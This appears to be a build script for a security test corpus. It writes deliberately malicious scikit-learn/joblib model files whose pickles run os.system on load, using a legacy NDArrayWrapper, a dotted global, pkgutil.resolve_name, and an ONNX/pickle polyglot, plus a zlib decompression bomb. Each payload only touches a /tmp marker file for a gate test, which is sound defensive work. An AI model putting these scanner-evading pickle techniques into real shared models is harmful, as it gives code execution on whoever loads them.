"""Rebuild the model files of the corpus's attack folders, deterministically.

Each attack folder is written the way a hostile author would write it: the model file works when
a handler loads it for real (the NMF of ``sklearn_nmf_plain``, the same handler), and loading it
also runs a payload. Every payload only touches its marker file,
``/tmp/dialsgate-corpus-<folder>-ran``, which the corpus test asserts never appears. Written with
the serving image's versions (see build_corpus.py)::

    /tmp/corpus-serving/bin/python tests/gate/corpus/build_attacks.py
    /tmp/corpus-serving/bin/python tests/gate/corpus/build_attacks.py --prove   # load each for real

``--prove`` loads each model file for real, as its handler does, in a subprocess (the payload runs:
the marker appears, and is deleted again) and checks that the loaded NMF scores like the plain
one: evidence that the folder is a working attack, not a broken file.

* ``pickle_legacy_wrapper``: the NMF's ``components_`` is joblib's legacy ``NDArrayWrapper``
  (written by joblib <= 0.9) naming a second file of the folder; joblib.load reads that file with
  ``numpy.load(allow_pickle=True)``, and it is an object .npy whose pickle runs the payload and
  then returns the real components. The second file has no .npy suffix and starts with numpy's
  magic, not a pickle's; the wrapper names it as ``../corpus-pickle-legacy-wrapper/...``, which
  reaches the server folder from the worker's /mnt/model and from /mnt/<Name>, and a copy beside
  template.yaml from the model file's folder on the gate's machine. The same pickle silences
  joblib's warning about the legacy format.
* ``pickle_dotted_global``: ``{"model": nmf, "provenance": ...}``, the provenance a call of the
  global ``logging`` / ``os.system`` (protocol 4 resolves the dotted name: logging imports os).
* ``pickle_unlisted_resolver``: the NMF with ``training_provenance_`` =
  ``pkgutil.resolve_name("os:system")(command)``: a name resolver on no scanner's list before
  picklescan added it, called by REDUCE, and its result called by a second REDUCE.
* ``polyglot_onnx_pickle``: one file that is a protobuf ModelProto (ir_version, model_version,
  metadata_props, graph) and a joblib pickle of ``{"model": nmf, "provenance": <os.system call>}``.
* ``compressed_joblib_bomb``: joblib's own zlib compression (level 9) of the NMF carrying
  ``training_occupancy_``, 1.5 GiB of zeros: a 1.5 MB file, benign except for its size.
"""

from __future__ import annotations

import argparse
import copy
import io
import json
import os
import pickle
import pickletools
import struct
import subprocess
import sys
import tempfile
import types
from pathlib import Path

import numpy as np

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE))
from build_corpus import IMAGE_VERSIONS, SERVER_FOLDER, running_versions  # noqa: E402

FOLDERS = (
    "pickle_legacy_wrapper",
    "pickle_dotted_global",
    "pickle_unlisted_resolver",
    "polyglot_onnx_pickle",
    "compressed_joblib_bomb",
)
MODEL_FILES = {
    "pickle_legacy_wrapper": "nmf_bpix1.joblib",
    "pickle_dotted_global": "nmf_bpix1.joblib",
    "pickle_unlisted_resolver": "nmf_bpix1.joblib",
    "polyglot_onnx_pickle": "nmf_bpix1.onnx",
    "compressed_joblib_bomb": "nmf_bpix1.joblib",
}
LEGACY_ARRAY_FILE = "nmf_bpix1.components"  # the second file of pickle_legacy_wrapper
#: Where the wrapper points, relative to the model file's folder: the server folder as a worker
#: mounts it (/mnt/<Name>, the model file alone in /mnt/model) and as it is served (/mnt/<Name>),
#: and, on the gate's machine, a folder of that name beside template.yaml.
LEGACY_SERVER_NAME = "corpus-pickle-legacy-wrapper"
LEGACY_ARRAY_PATH = f"../{LEGACY_SERVER_NAME}/{LEGACY_ARRAY_FILE}"
BOMB_BYTES = 3 * 2**29  # 1.5 GiB of zeros once decompressed


def marker(folder: str) -> str:
    return f"/tmp/dialsgate-corpus-{folder}-ran"


def touch_command(folder: str) -> str:
    return f"touch {marker(folder)}"


def plain_nmf():
    """The NMF of sklearn_nmf_plain (this repository's own file, written by build_corpus.py)."""
    import joblib

    return joblib.load(HERE / "sklearn_nmf_plain" / SERVER_FOLDER / "nmf_bpix1.joblib")


def target(folder: str, name: str | None = None) -> Path:
    return HERE / folder / SERVER_FOLDER / (name or MODEL_FILES[folder])


def report(path: Path) -> None:
    print(f"  wrote {path.relative_to(HERE)} ({path.stat().st_size} bytes)")


class RunsOsSystem:
    """Pickles as a call of os.system (recorded as posix.system)."""

    def __init__(self, command: str):
        self.command = command

    def __reduce__(self):
        return (os.system, (self.command,))


# --------------------------------------------------------------------------- pickle_legacy_wrapper


def legacy_wrapper_folder(nmf) -> None:
    """joblib's NDArrayWrapper in place of components_, naming an object .npy of the folder."""
    import joblib
    from joblib.numpy_pickle_compat import NDArrayWrapper

    folder = "pickle_legacy_wrapper"
    # The object .npy: numpy's header for an object array, then a pickle that runs the payload,
    # drops its result and goes on with the real components (what numpy.load returns).
    array_pickle = pickle.dumps(np.ascontiguousarray(nmf.components_), protocol=2)

    def text(value: str) -> bytes:  # BINUNICODE
        return b"X" + struct.pack("<I", len(value.encode())) + value.encode()

    payload = (
        b"\x80\x02"
        + b"cposix\nsystem\n" + text(touch_command(folder)) + b"\x85R0"  # TUPLE1, REDUCE, POP
        # and silence joblib's "generated with a joblib version less than 0.10" warning, which
        # a strict loader (warnings as errors) would trip over once the wrapper is read
        + b"cwarnings\nfilterwarnings\n" + text("ignore") + text("The file .* joblib version less than 0.10")
        + b"\x86R0"  # TUPLE2, REDUCE, POP
        + array_pickle[2:]  # the array's pickle without its PROTO header
    )  # fmt: skip
    pickletools.dis(payload, out=io.StringIO())  # one well-formed pickle
    header = io.BytesIO()
    np.lib.format.write_array_header_1_0(header, {"descr": "|O", "fortran_order": False, "shape": nmf.components_.shape})
    beside_template = HERE / folder / LEGACY_SERVER_NAME / LEGACY_ARRAY_FILE
    beside_template.parent.mkdir(exist_ok=True)
    for path in (target(folder, LEGACY_ARRAY_FILE), beside_template):
        path.write_bytes(header.getvalue() + payload)
        report(path)

    carrier = copy.deepcopy(nmf)
    carrier.components_ = NDArrayWrapper(LEGACY_ARRAY_PATH, np.ndarray, allow_mmap=False)
    joblib.dump(carrier, target(folder))
    report(target(folder))


# --------------------------------------------------------------------------- pickle_dotted_global


def dotted_global_folder(nmf) -> None:
    """{"model": nmf, "provenance": <logging.os.system call>}: STACK_GLOBAL ('logging', 'os.system')."""
    import logging

    import joblib

    folder = "pickle_dotted_global"

    # pickle writes a function by its __module__ and __qualname__ after checking that the name
    # leads back to it: a stand-in reached as logging.os.system while this dump runs. Loading
    # resolves the same name to the real os.system.
    def system(command):
        raise AssertionError("only pickled")

    system.__module__, system.__qualname__ = "logging", "os.system"

    class DottedCall:
        def __reduce__(self):
            return (system, (touch_command(folder),))

    real_os = logging.os
    logging.os = types.SimpleNamespace(system=system)
    try:
        joblib.dump({"model": nmf, "provenance": DottedCall()}, target(folder), protocol=4)
    finally:
        logging.os = real_os
    data = target(folder).read_bytes()
    assert b"\x8c\x07logging\x94\x8c\tos.system\x94\x93" in data, "no STACK_GLOBAL ('logging', 'os.system')"
    report(target(folder))


# --------------------------------------------------------------------------- pickle_unlisted_resolver


class ResolvedSystem:
    """Pickles as pkgutil.resolve_name('os:system'): a REDUCE whose result is os.system."""

    def __call__(self, *args):
        raise AssertionError("only pickled")

    def __reduce__(self):
        import pkgutil

        return (pkgutil.resolve_name, ("os:system",))


class CallsResolved:
    """Pickles as pkgutil.resolve_name('os:system')(command): a REDUCE on a REDUCE's result."""

    def __init__(self, command: str):
        self.command = command

    def __reduce__(self):
        return (ResolvedSystem(), (self.command,))


def unlisted_resolver_folder(nmf) -> None:
    import joblib

    folder = "pickle_unlisted_resolver"
    carrier = copy.deepcopy(nmf)
    carrier.training_provenance_ = CallsResolved(touch_command(folder))
    joblib.dump(carrier, target(folder))
    report(target(folder))


# --------------------------------------------------------------------------- polyglot_onnx_pickle


def polyglot_bytes(pickle_stream: bytes) -> bytes:
    """A protobuf ModelProto that is also the pickle ``pickle_stream`` (a whole joblib: its PROTO
    opcode may come anywhere, and its arrays are read relative to the stream, not to the file).

    byte  protobuf (ModelProto)                     pickle
    0     0x28 key: field 5 (model_version), varint  MARK
    1     0x4e its value, 78                         NONE
    2     0x72 key: field 14 (metadata_props), len   LONG_BINPUT
    3-6   its length: a four-byte varint, L           the memo index (any value)
    7..   L bytes skipped                             the pickle, to its STOP
    then  0x08 0x07: field 1 (ir_version) 7           (after STOP: never read)
          0x3a 0x00: field 7 (graph), empty
    """
    length = len(pickle_stream)
    assert length < 2**28
    varint = bytes([0x80 | (length & 0x7F), 0x80 | (length >> 7 & 0x7F), 0x80 | (length >> 14 & 0x7F), length >> 21])
    return b"(Nr" + varint + pickle_stream + b"\x08\x07" + b"\x3a\x00"


def polyglot_folder(nmf) -> None:
    import joblib

    folder = "polyglot_onnx_pickle"
    with tempfile.TemporaryDirectory() as scratch:
        plain = Path(scratch) / "bundle.joblib"
        # Protocol 3 memoizes by explicit index (BINPUT n): the memo entry the ONNX prefix adds would
        # shift protocol 4's implicit MEMOIZE indices.
        joblib.dump({"model": nmf, "provenance": RunsOsSystem(touch_command(folder))}, plain, protocol=3)
        data = polyglot_bytes(plain.read_bytes())
    target(folder).write_bytes(data)
    report(target(folder))


# --------------------------------------------------------------------------- compressed_joblib_bomb


def bomb_folder(nmf) -> None:
    import joblib

    folder = "compressed_joblib_bomb"
    carrier = copy.deepcopy(nmf)
    # calloc'd zeros: no memory is touched while joblib streams them through zlib
    carrier.training_occupancy_ = np.zeros(BOMB_BYTES, dtype=np.uint8)
    joblib.dump(carrier, target(folder), compress=("zlib", 9))
    report(target(folder))


# --------------------------------------------------------------------------- proof


PROVE = r"""
import json, sys
import joblib, numpy as np
sys.path.insert(0, sys.argv[3])
import app
loaded = joblib.load(sys.argv[1])
model = loaded["model"] if isinstance(loaded, dict) else loaded
plain = joblib.load(sys.argv[2])
maps = np.random.default_rng(0).poisson(300.0, size=(3, 20, 16)).astype(np.int32)
print(json.dumps({"same_scores": bool(np.array_equal(app.reconstruction_loss(model, maps), app.reconstruction_loss(plain, maps)))}))
"""


def prove(folder: str) -> None:
    """Load the folder's model file for real, as its handler does: the payload runs, the NMF works."""
    flag = Path(marker(folder))
    flag.unlink(missing_ok=True)
    plain = HERE / "sklearn_nmf_plain" / SERVER_FOLDER / "nmf_bpix1.joblib"
    finished = subprocess.run(
        [sys.executable, "-c", PROVE, str(target(folder)), str(plain), str(target(folder).parent)],
        capture_output=True, text=True, timeout=600, env={**os.environ, "PYTHONDONTWRITEBYTECODE": "1"},
    )  # fmt: skip
    ran = flag.exists()
    flag.unlink(missing_ok=True)
    answer = (
        json.loads(finished.stdout.strip().splitlines()[-1]) if finished.returncode == 0 else {"error": finished.stderr[-800:]}
    )
    print(f"  {folder}: loaded for real: {answer}; payload ran: {ran}")


def main(argv=None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--only", action="append", choices=FOLDERS, help="build only this folder (repeatable)")
    parser.add_argument("--prove", action="store_true", help="load each built file for real (runs the payloads)")
    args = parser.parse_args(argv)
    if running_versions() != IMAGE_VERSIONS:
        parser.error(f"running {running_versions()}; build under the image's versions {IMAGE_VERSIONS}")
    folders = args.only or list(FOLDERS)
    nmf = plain_nmf()
    builders = {
        "pickle_legacy_wrapper": legacy_wrapper_folder,
        "pickle_dotted_global": dotted_global_folder,
        "pickle_unlisted_resolver": unlisted_resolver_folder,
        "polyglot_onnx_pickle": polyglot_folder,
        "compressed_joblib_bomb": bomb_folder,
    }
    for folder in folders:
        builders[folder](nmf)
    if args.prove:
        for folder in folders:
            if folder != "compressed_joblib_bomb":  # no payload; loading it takes 1.5 GiB
                prove(folder)
    return 0


if __name__ == "__main__":
    sys.exit(main())
